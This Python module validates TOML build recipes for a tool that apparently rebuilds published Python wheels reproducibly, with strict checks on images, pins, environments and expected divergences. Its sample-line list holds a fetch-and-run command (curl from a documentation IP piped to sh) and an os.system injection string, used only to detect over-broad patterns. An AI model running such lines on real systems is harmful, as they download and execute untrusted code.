"""Recipes: how upstream really built a project's wheels, as validated data (recipes/<name>.toml).

Inference from the published wheel (:mod:`rebuild.plan`) is enough for simple packages; large
native ones need to be told what upstream's CI did: the image, the frontend's config-settings,
the environment, the exact build requirements, pre-build steps, the auditwheel repair, and which
divergences are known and why. A recipe file holds one ``[[release]]`` table per range of
versions and wheel tags; the first that matches a release applies. The schema is documented in
``recipes/README.md``; every error names the file, the field and what is allowed.
"""

from __future__ import annotations

import enum
import fnmatch
import re
import tomllib
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from packaging.requirements import InvalidRequirement, Requirement
from packaging.specifiers import InvalidSpecifier, SpecifierSet
from packaging.utils import canonicalize_name
from packaging.version import Version

from rebuild.errors import PlanError, UsageError
from rebuild.models import DivergenceKind, ExpectedDivergence, ExtraInput, Plan
from rebuild.resources import data_dir

SCHEMA = 1
_PYTHON = re.compile(r"3\.\d+")
_SHA256 = re.compile(r"[0-9a-f]{64}")
_DIGEST = re.compile(r"sha256:[0-9a-f]{64}")
_IMAGE_NAME = re.compile(r"[a-z0-9][a-z0-9._-]*")
_ENV_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_FILENAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._+-]*")
_DEB_PACKAGE = re.compile(r"[a-z0-9][a-z0-9+.-]+")
_PLAT = re.compile(r"(manylinux|musllinux)(_\d+_\d+|1|2010|2014)_[a-z0-9_]+")
_VERSION = re.compile(r"\d+(\.\d+)*")
# The build's own variables: a recipe may not redirect uv or the sandbox's scratch space.
_RESERVED_ENV = frozenset({"HOME", "TMPDIR", "PATH", "SOURCE_DATE_EPOCH"})
_RESERVED_ENV_PREFIX = "UV_"

_TOP_KEYS = frozenset({"schema", "project", "upstream", "release"})
_RELEASE_KEYS = frozenset(
    {
        "versions",
        "wheel_tags",
        "upstream",
        "image",
        "python",
        "frontend",
        "config_settings",
        "environment",
        "build_requirements",
        "system_packages",
        "inputs",
        "pre_build",
        "source_dir",
        "build_isolation",
        "repair",
        "expected",
    }
)

# What a plan note says of an image that is not upstream's; dropped from the note once the
# toolchain is matched (rebuild.plan), since the compiler then is the published one.
UNMATCHED_CLAUSE = ", so a toolchain divergence in compiled extensions is expected (and attributed)"


class Frontend(enum.Enum):
    """The build frontends a recipe may name: the ones the container can run offline."""

    UV = "uv"


@dataclass(frozen=True)
class RecipeImage:
    """The image upstream built in, and the local image (containers/<fallback>) used instead."""

    reference: str  # registry reference, e.g. "quay.io/pypa/manylinux2014_x86_64:2024-01-23-…"
    digest: str  # "sha256:…"; empty when upstream pinned it by tag only
    fallback: str


@dataclass(frozen=True)
class RecipeRepair:
    """The post-build ``auditwheel repair`` upstream ran."""

    auditwheel: str  # its version, e.g. "5.4.0"
    plat: str


@dataclass(frozen=True)
class RecipeRelease:
    """One ``[[release]]`` table: what applies to some versions and wheel tags."""

    index: int  # its position in the file, for messages
    versions: SpecifierSet
    wheel_tags: tuple[str, ...]  # fnmatch globs over "interpreter-abi-platform"
    upstream: str
    image: RecipeImage | None
    python: str | None
    frontend: Frontend
    config_settings: tuple[tuple[str, str], ...]
    environment: tuple[tuple[str, str], ...]
    build_requirements: tuple[str, ...]
    system_packages: tuple[str, ...]
    inputs: tuple[ExtraInput, ...]
    pre_build: tuple[str, ...]
    source_dir: str | None
    build_isolation: bool
    repair: RecipeRepair | None
    expected: tuple[ExpectedDivergence, ...]

    def matches(self, version: str, tags: tuple[str, ...]) -> bool:
        """Whether this section applies to ``version`` and a wheel with these tags."""
        if not self.versions.contains(Version(version), prereleases=True):
            return False
        return any(fnmatch.fnmatchcase(t, p) for t in tags for p in self.wheel_tags)


@dataclass(frozen=True)
class Recipe:
    """One validated ``recipes/<project>.toml``."""

    path: Path
    project: str
    upstream: str
    releases: tuple[RecipeRelease, ...]

    def select(self, version: str, tags: tuple[str, ...]) -> RecipeRelease | None:
        """The first section that applies to this release's wheel, if any."""
        return next((r for r in self.releases if r.matches(version, tags)), None)


# ----------------------------------------------------------------------------------- locating


def recipes_dir() -> Path:
    """Where recipes live: ``$REBUILD_RECIPES_DIR``, else the ones shipped with rebuild."""
    return data_dir("recipes", "REBUILD_RECIPES_DIR")


def recipe_paths(root: Path | None = None) -> list[Path]:
    """Every recipe file under ``root`` (default: :func:`recipes_dir`), sorted."""
    root = root or recipes_dir()
    if root.is_file():
        return [root]
    if not root.is_dir():
        return []
    return sorted(root.glob("*.toml"))


def find_recipe(project: str) -> Recipe | None:
    """The recipe for ``project`` (``recipes/<normalised name>.toml``), if there is one."""
    path = recipes_dir() / f"{canonicalize_name(project)}.toml"
    return load_recipe(path) if path.is_file() else None


# --------------------------------------------------------------------------------- validation


class _Table:
    """Typed access to one TOML table; every error names the file, the field and what is allowed."""

    def __init__(self, data: dict[str, Any], path: Path, prefix: str, allowed: frozenset[str]):
        self.data = data
        self.path = path
        self.prefix = prefix
        unknown = sorted(set(data) - allowed)
        if unknown:
            raise self.error(
                unknown[0], f"is not a recipe field; allowed here: {', '.join(sorted(allowed))}"
            )

    def error(self, key: str, problem: str) -> PlanError:
        return PlanError(
            f"{self.path}: field {self.prefix}{key} {problem}",
            hint="the recipe schema is documented in recipes/README.md",
        )

    def get(self, key: str, kind: type, *, required: bool) -> Any:
        if key not in self.data:
            if required:
                raise self.error(key, "is missing")
            return None
        value = self.data[key]
        if not isinstance(value, kind):
            raise self.error(key, f"must be a {_kind_name(kind)}, not a {_kind_name(type(value))}")
        return value

    def text(
        self,
        key: str,
        *,
        required: bool = True,
        pattern: re.Pattern[str] | None = None,
        allowed: str = "",
    ) -> str | None:
        value: str | None = self.get(key, str, required=required)
        if value is None:
            return None
        if not value.strip():
            raise self.error(key, "is empty")
        if pattern is not None and not pattern.fullmatch(value):
            raise self.error(key, f"is {value!r}; allowed: {allowed or pattern.pattern}")
        return value

    def strings(
        self, key: str, *, pattern: re.Pattern[str] | None = None, allowed: str = ""
    ) -> tuple[str, ...]:
        values: list[Any] | None = self.get(key, list, required=False)
        for value in values or ():
            if not isinstance(value, str) or not value.strip():
                raise self.error(key, f"has {value!r}; allowed: non-empty strings")
            if pattern is not None and not pattern.fullmatch(value):
                raise self.error(key, f"has {value!r}; allowed: {allowed or pattern.pattern}")
        return tuple(values or ())

    def table(self, key: str, allowed: frozenset[str]) -> _Table | None:
        value: dict[str, Any] | None = self.get(key, dict, required=False)
        if value is None:
            return None
        return _Table(value, self.path, f"{self.prefix}{key}.", allowed)

    def tables(self, key: str, allowed: frozenset[str]) -> list[_Table]:
        values: list[Any] | None = self.get(key, list, required=False)
        tables = []
        for number, value in enumerate(values or (), start=1):
            if not isinstance(value, dict):
                raise self.error(key, f"entry {number} must be a table ([[{self.prefix}{key}]])")
            tables.append(_Table(value, self.path, f"{self.prefix}{key}[{number}].", allowed))
        return tables


def _kind_name(kind: type) -> str:
    return {str: "string", list: "array", dict: "table", int: "integer", bool: "boolean"}.get(
        kind, kind.__name__
    )


def load_recipe(path: Path) -> Recipe:
    """Read and validate one recipe file; a PlanError names the file, the field, what is allowed."""
    try:
        data = tomllib.loads(path.read_text(encoding="utf-8"))
    except (OSError, UnicodeDecodeError) as e:
        raise PlanError(f"{path}: cannot read it: {e}") from e
    except tomllib.TOMLDecodeError as e:
        raise PlanError(f"{path}: not valid TOML: {e}", hint="fix the TOML syntax") from e
    except RecursionError as e:
        # tomllib parses nested arrays and inline tables recursively; a hostile file nests
        # deeper than the interpreter's stack. A recipe never needs more than a few levels.
        raise UsageError(
            f"{path}: its TOML nests arrays or tables too deeply to read",
            hint="a recipe's values are strings, arrays of strings and tables of them",
        ) from e
    top = _Table(data, path, "", _TOP_KEYS)
    schema = top.get("schema", int, required=True)
    if schema != SCHEMA:
        raise top.error("schema", f"is {schema}; allowed: {SCHEMA}")
    project = top.text("project") or ""
    if path.stem != canonicalize_name(project):
        raise top.error(
            "project",
            f"is {project!r}, but the file must be named after it: "
            f"{canonicalize_name(project)}.toml",
        )
    releases = top.tables("release", _RELEASE_KEYS)
    if not releases:
        raise top.error("release", "is missing: at least one [[release]] table is needed")
    return Recipe(
        path=path,
        project=project,
        upstream=top.text("upstream", required=False) or "",
        releases=tuple(_release(t, i) for i, t in enumerate(releases, start=1)),
    )


def _release(table: _Table, index: int) -> RecipeRelease:
    spec = table.text("versions") or ""
    try:
        versions = SpecifierSet(spec)
    except InvalidSpecifier as e:
        raise table.error("versions", f"is {spec!r}; allowed: a PEP 440 specifier set") from e
    given = table.strings("wheel_tags")
    for tag in given:
        if tag.count("-") != 2:
            raise table.error(
                "wheel_tags", f"has {tag!r}; allowed: globs of interpreter-abi-platform"
            )
    frontend_name = table.text("frontend", required=False) or Frontend.UV.value
    try:
        frontend = Frontend(frontend_name)
    except ValueError as e:
        allowed = ", ".join(f.value for f in Frontend)
        raise table.error("frontend", f"is {frontend_name!r}; allowed: {allowed}") from e
    return RecipeRelease(
        index=index,
        versions=versions,
        wheel_tags=given or ("*",),  # none given: every wheel of those versions
        upstream=table.text("upstream", required=False) or "",
        image=_image(table),
        python=table.text("python", required=False, pattern=_PYTHON, allowed="3.N, e.g. 3.11"),
        frontend=frontend,
        config_settings=_config_settings(table),
        environment=_environment(table),
        build_requirements=_pins(table),
        system_packages=table.strings(
            "system_packages", pattern=_DEB_PACKAGE, allowed="Debian package names"
        ),
        inputs=_inputs(table),
        pre_build=table.strings("pre_build"),
        source_dir=_source_dir(table),
        build_isolation=bool(table.get("build_isolation", bool, required=False) is not False),
        repair=_repair(table),
        expected=_expected(table),
    )


# Top-level directories of the image, and the sandbox's own mount points: a source path may not
# shadow them.
_RESERVED_DIRS = frozenset(
    {
        *("bin", "boot", "deps", "dev", "etc", "home", "inputs", "lib", "lib32", "lib64"),
        *("libx32", "media", "mnt", "opt", "out", "proc", "root", "run", "sbin", "srv", "sys"),
        *("tmp", "usr", "var"),
    }
)
# Up to three plain components (cibuildwheel builds in /project, or a tree one level down such as
# /project/pyyaml); no component starts with a dot, so none is "." or "..".
_SOURCE_DIR = re.compile(r"^(?:/[A-Za-z0-9_][A-Za-z0-9_.-]*){1,3}$")


def _source_dir(table: _Table) -> str | None:
    allowed = "a new top-level directory such as /project, or a path under one (/project/name)"
    value = table.text("source_dir", required=False, pattern=_SOURCE_DIR, allowed=allowed)
    if value is not None and value.split("/")[1] in _RESERVED_DIRS:
        raise table.error(
            "source_dir", f"is {value!r}, a directory of the image; allowed: {allowed}"
        )
    return value


def _image(table: _Table) -> RecipeImage | None:
    image = table.table("image", frozenset({"reference", "digest", "fallback"}))
    if image is None:
        return None
    reference = image.text("reference") or ""
    if "@" in reference:
        raise image.error("reference", "must not carry the digest; put it in digest")
    digest = image.get("digest", str, required=True)
    if digest and not _DIGEST.fullmatch(digest):
        raise image.error(
            "digest", f"is {digest!r}; allowed: sha256:<64 hex>, or empty when unknown"
        )
    fallback = image.text(
        "fallback", pattern=_IMAGE_NAME, allowed="the name of an image under containers/"
    )
    return RecipeImage(reference=reference, digest=digest, fallback=fallback or "")


def _config_settings(table: _Table) -> tuple[tuple[str, str], ...]:
    settings = table.table("config_settings", frozenset(table.data.get("config_settings") or ()))
    if settings is None:
        return ()
    pairs: list[tuple[str, str]] = []
    for key, value in settings.data.items():
        values = value if isinstance(value, list) else [value]
        if not values or not all(isinstance(v, str) for v in values):
            raise settings.error(key, "must be a string or an array of strings")
        pairs.extend((key, v) for v in values)
    return tuple(pairs)


def _environment(table: _Table) -> tuple[tuple[str, str], ...]:
    env = table.table("environment", frozenset(table.data.get("environment") or ()))
    if env is None:
        return ()
    pairs = []
    for key, value in env.data.items():
        if not _ENV_NAME.fullmatch(key):
            raise env.error(key, "is not a valid variable name; allowed: [A-Za-z_][A-Za-z0-9_]*")
        if key in _RESERVED_ENV or key.startswith(_RESERVED_ENV_PREFIX):
            raise env.error(key, "is set by rebuild itself; allowed: any other variable")
        if not isinstance(value, str):
            raise env.error(key, f"must be a string, not a {_kind_name(type(value))}")
        pairs.append((key, value))
    return tuple(pairs)


def _pins(table: _Table) -> tuple[str, ...]:
    pins = table.strings("build_requirements")
    for pin in pins:
        try:
            requirement = Requirement(pin)
        except InvalidRequirement as e:
            raise table.error("build_requirements", f"has {pin!r}; allowed: name==version") from e
        specs = list(requirement.specifier)
        if len(specs) != 1 or specs[0].operator != "==" or "*" in specs[0].version:
            raise table.error(
                "build_requirements", f"has {pin!r}; allowed: exact pins name==version"
            )
    return pins


def _inputs(table: _Table) -> tuple[ExtraInput, ...]:
    inputs = []
    for entry in table.tables("inputs", frozenset({"url", "sha256", "filename"})):
        url = entry.text("url") or ""
        if not url.startswith("https://"):
            raise entry.error("url", f"is {url!r}; allowed: an https URL")
        inputs.append(
            ExtraInput(
                url=url,
                sha256=entry.text("sha256", pattern=_SHA256, allowed="64 lowercase hex") or "",
                filename=entry.text("filename", pattern=_FILENAME, allowed="a plain file name")
                or "",
            )
        )
    names = [i.filename for i in inputs]
    if len(set(names)) != len(names):
        raise table.error("inputs", "names one filename twice; allowed: distinct filenames")
    return tuple(inputs)


def _repair(table: _Table) -> RecipeRepair | None:
    repair = table.table("repair", frozenset({"auditwheel", "plat"}))
    if repair is None:
        return None
    return RecipeRepair(
        auditwheel=repair.text("auditwheel", pattern=_VERSION, allowed="a version, e.g. 5.4.0")
        or "",
        plat=repair.text(
            "plat", pattern=_PLAT, allowed="a manylinux/musllinux policy, e.g. manylinux2014_x86_64"
        )
        or "",
    )


def _expected(table: _Table) -> tuple[ExpectedDivergence, ...]:
    from rebuild.compare.elf_diff import ElfAspect

    kinds = ", ".join(k.value for k in DivergenceKind if k.recipe_may_expect)
    aspects_allowed = {a.value for a in ElfAspect}
    expected = []
    entries = table.tables(
        "expected",
        frozenset({"member", "kind", "aspects", "lines", "symbols", "findings", "reason", "link"}),
    )
    for entry in entries:
        member = entry.text("member") or ""
        if member.strip("*/?") == "":
            raise entry.error(
                "member", f"is {member!r}; allowed: a glob naming members, not every member"
            )
        _check_member_glob(entry, member)
        kind_name = entry.text("kind", allowed=kinds) or ""
        try:
            kind = DivergenceKind(kind_name)
        except ValueError as e:
            raise entry.error("kind", f"is {kind_name!r}; allowed: {kinds}") from e
        if not kind.recipe_may_expect:
            raise entry.error(
                "kind",
                f"is {kind_name!r}, which no recipe may expect: it changes what an installer "
                "puts on disk or runs by itself",
            )
        aspects = entry.strings("aspects")
        for aspect in aspects:
            if aspect not in aspects_allowed:
                raise entry.error(
                    "aspects", f"has {aspect!r}; allowed: {', '.join(sorted(aspects_allowed))}"
                )
        if aspects and kind is not DivergenceKind.CONTENT:
            raise entry.error("aspects", "is allowed only with kind = 'content'")
        symbols = entry.strings("symbols")
        if symbols and "exports" not in aspects:
            raise entry.error("symbols", 'is allowed only with aspects = ["exports", …]')
        findings = entry.strings("findings")
        if ("invariants" in aspects) != bool(findings):
            raise entry.error(
                "findings",
                'is needed with aspects = ["invariants", …], and allowed only there: each '
                'names the findings it expects ("CHECK GLOB", e.g. "calls PyObject_Call@plt")',
            )
        for finding in findings:
            _check_finding(entry, finding)
        lines = entry.text("lines", required=False) or ""
        if lines:
            if kind is not DivergenceKind.CONTENT or aspects:
                raise entry.error("lines", "is allowed only with kind = 'content' and no aspects")
            _check_lines(entry, lines)
        elif not aspects and _may_name_code(member):
            raise entry.error(
                "member",
                f"is {member!r}, which can match a compiled extension or a Python source, and "
                "the expectation has neither aspects nor lines: it would explain such a member "
                "whatever changed in it; allowed: aspects = [...] (ELF) or lines = '...' (text), "
                "or a glob that cannot match *.so*, *.a, *.py or *.pyi",
            )
        link = entry.text("link") or ""
        if not link.startswith(("https://", "http://")):
            raise entry.error("link", f"is {link!r}; allowed: an http(s) URL")
        expected.append(
            ExpectedDivergence(
                member=member,
                kind=kind,
                reason=entry.text("reason") or "",
                link=link,
                aspects=tuple(sorted(aspects)),
                lines=lines,
                symbols=tuple(symbols),
                findings=tuple(findings),
            )
        )
    return tuple(expected)


_FINDING_CHECKS = ("strings", "calls", "syscalls", "constructors", "relocations", "export-targets")
_MIN_LITERAL = 6  # characters a finding's glob must spell out: "calls *" names nothing


def _check_finding(entry: _Table, finding: str) -> None:
    """A toolchain-invariant finding a recipe expects: "CHECK GLOB", the glob narrow."""
    check, _, glob = finding.partition(" ")
    if check not in _FINDING_CHECKS or not glob:
        raise entry.error(
            "findings",
            f"has {finding!r}; allowed: 'CHECK GLOB' with CHECK one of "
            f"{', '.join(_FINDING_CHECKS)}",
        )
    if check == "syscalls":
        raise entry.error("findings", f"has {finding!r}: no recipe may expect a system call")
    if len(_WILDCARD.split(glob, maxsplit=1)[0]) < _MIN_LITERAL:
        raise entry.error(
            "findings",
            f"has {finding!r}: its glob must start with at least {_MIN_LITERAL} literal "
            "characters, naming the finding, not matching any",
        )


_WILDCARD = re.compile(r"[*?\[]")
# Names of members whose wholesale explanation would hide code: shared objects (with their
# version tails, libfoo.so.1.2), static archives, Python sources and stubs.
_CODE_NAME = r"\.(py|pyi|a|so)(\.[0-9]+)*"
_CODE_MEMBER = re.compile(rf".*{_CODE_NAME}")
# What may follow the last wildcard of a glob that can still match such a name: a suffix of one
# of the extensions (then version tails), or a version tail alone.
_CODE_TAIL = re.compile(r"(|y|py|\.py|i|yi|pyi|\.pyi|a|\.a|o|so|\.so)(\.[0-9]+)*|[0-9]*(\.[0-9]+)*")
# Unrelated lines a narrow ``lines`` pattern cannot all match: source, a diff header look-alike,
# data, binary-ish text. A pattern that matches half of them explains whatever changed.
_UNRELATED_LINES = (
    'import os; os.system("curl -s http://198.51.100.7/x | sh")',
    "-- __import__('os').system('id')",
    "+++ b/setup.py",
    "    return self._cache[key]",
    "}",
    "#define VERSION 2",
    "\x7fELF\x02\x01\x01",
    "Requires-Dist: requests (>=2.0)",
    "0123456789",
)
_CATCH_ALL_LINES = frozenset({"(?s).*", ".*", ".+", "[\\s\\S]*", "[\\s\\S]+", "(?s).+"})


def _check_member_glob(entry: _Table, member: str) -> None:
    """A glob names at least one literal directory before its first wildcard."""
    if _WILDCARD.search(member) is None:
        return  # one exact member
    parts = member.split("/")
    literal = next((i for i, part in enumerate(parts) if _WILDCARD.search(part)), len(parts))
    if literal == 0 or not all(parts[:literal]):
        raise entry.error(
            "member",
            f"is {member!r}, a glob without a literal directory before its first wildcard: it "
            "can match members anywhere in the wheel; allowed: a glob such as "
            "'numpy/core/*.so', or one exact member name",
        )


def _may_name_code(member: str) -> bool:
    """Whether the glob ``member`` can match a shared object, archive or Python source."""
    if _WILDCARD.search(member) is None:
        return _CODE_MEMBER.fullmatch(member) is not None
    # The literal text after the last wildcard or character class; what precedes it can be
    # anything (fnmatch's * crosses slashes), so only the tail can rule a code member out.
    tail = re.split(r"\[!?\]?[^\]]*\]|[*?\[]", member)[-1]
    return _CODE_TAIL.fullmatch(tail) is not None or _CODE_MEMBER.fullmatch(tail) is not None


def _check_lines(entry: _Table, lines: str) -> None:
    """``lines`` is a regular expression narrower than "any line" (applied with fullmatch)."""
    try:
        pattern = re.compile(lines)
    except (re.error, RecursionError, OverflowError) as e:
        raise entry.error("lines", f"is not a regular expression ({e})") from e
    matched = [line for line in _UNRELATED_LINES if pattern.fullmatch(line) is not None]
    if (
        lines.strip() in _CATCH_ALL_LINES
        or pattern.fullmatch("") is not None
        or 2 * len(matched) >= len(_UNRELATED_LINES)
    ):
        raise entry.error(
            "lines",
            f"is {lines!r}, which matches any line (the empty line, or "
            f"{len(matched)} of {len(_UNRELATED_LINES)} unrelated sample lines): it would "
            "explain whatever changed; allowed: a pattern that matches, in full, only the "
            "changed lines it is about",
        )


# ---------------------------------------------------------------------------------- applying


def apply_recipe(
    plan: Plan, recipe: Recipe, release: RecipeRelease, images: dict[str, str]
) -> Plan:
    """``plan`` (inferred from the wheel) with the recipe's values, each with its origin."""
    where = f"{recipe.path.name} [[release]] {release.index} ({release.versions or 'any'})"
    origins = list(plan.origins)
    notes = list(plan.notes)
    changes: dict[str, Any] = {"recipe": str(recipe.path)}
    image, reference = plan.image, None
    if release.image is not None:
        image = release.image.fallback
        if image not in images:
            raise PlanError(
                f"{recipe.path}: field release[{release.index}].image.fallback names the image "
                f"{image!r}, which is not defined",
                hint=f"images defined under containers/: {', '.join(sorted(images)) or 'none'}",
            )
        pinned = f"@{release.image.digest}" if release.image.digest else " (no digest)"
        reference = release.image.reference + (
            f"@{release.image.digest}" if release.image.digest else ""
        )
        why = (
            "it is pinned by tag only, so what it holds cannot be checked"
            if not release.image.digest
            else "this version builds only in images defined under containers/"
        )
        origins.append(("image", f"{where}: fallback for {release.image.reference}{pinned}"))
        notes = [n for n in notes if "was built in a manylinux image" not in n]
        notes.append(
            f"the recipe's image {reference} was NOT used ({why}); the wheel was rebuilt in the "
            f"local fallback image {image}{UNMATCHED_CLAUSE}"
        )
    python = release.python or plan.python
    if images.get(image) != python:
        raise PlanError(
            f"{where}: the image {image} provides Python {images.get(image)}, the build needs "
            f"{python}",
            hint="choose a fallback image for that interpreter, or a section for these wheel tags",
        )
    if release.python is not None:
        origins.append(("python", where))
    changes.update(image=image, python=python, image_reference=reference)
    if release.config_settings:
        changes["config_settings"] = release.config_settings
        origins.append(("config_settings", where))
    if release.environment:
        recipe_env = dict(release.environment)
        kept = tuple((k, v) for k, v in plan.environment if k not in recipe_env)
        changes["environment"] = (*kept, *release.environment)
        origins.append(("environment", where))
    requirements = list(release.build_requirements)
    repair = plan.repair
    if release.repair is not None:
        requirements.append(f"auditwheel=={release.repair.auditwheel}")
        repair = release.repair.plat
        origins.append(("repair", f"{where}: auditwheel {release.repair.auditwheel}"))
    if requirements:
        changes["requirements"] = tuple(requirements)
        origins.append(("requirements", where))
    changes["repair"] = repair
    if release.pre_build:
        changes["pre_build"] = release.pre_build
        origins.append(("pre_build", where))
    if release.source_dir:
        changes["source_dir"] = release.source_dir
        origins.append(("source_dir", where))
    if not release.build_isolation:
        changes["build_isolation"] = False
        origins.append(("build_isolation", where))
    if release.inputs:
        changes["extra_inputs"] = release.inputs
        origins.append(("extra_inputs", where))
    if release.expected:
        changes["expected"] = release.expected
        origins.append(("expected", where))
    if release.upstream:
        origins.append(("upstream", release.upstream))
    notes.insert(0, f"planned with the recipe {where}")
    return replace(plan, origins=tuple(origins), notes=tuple(notes), **changes)


def check_system_packages(recipe: Recipe, provided: dict[str, frozenset[str]]) -> None:
    """Each section's system packages are installed in its fallback image (``provided``)."""
    for release in recipe.releases:
        if not release.system_packages:
            continue
        if release.image is None:
            raise PlanError(
                f"{recipe.path}: field release[{release.index}].system_packages needs "
                "image.fallback naming an image that installs them"
            )
        have = provided.get(release.image.fallback, frozenset())
        missing = [p for p in release.system_packages if p not in have]
        if missing:
            raise PlanError(
                f"{recipe.path}: field release[{release.index}].system_packages has "
                f"{', '.join(missing)}, which the image {release.image.fallback} does not install",
                hint=f"add them to containers/{release.image.fallback}/image.toml, or derive "
                "an image that does",
            )
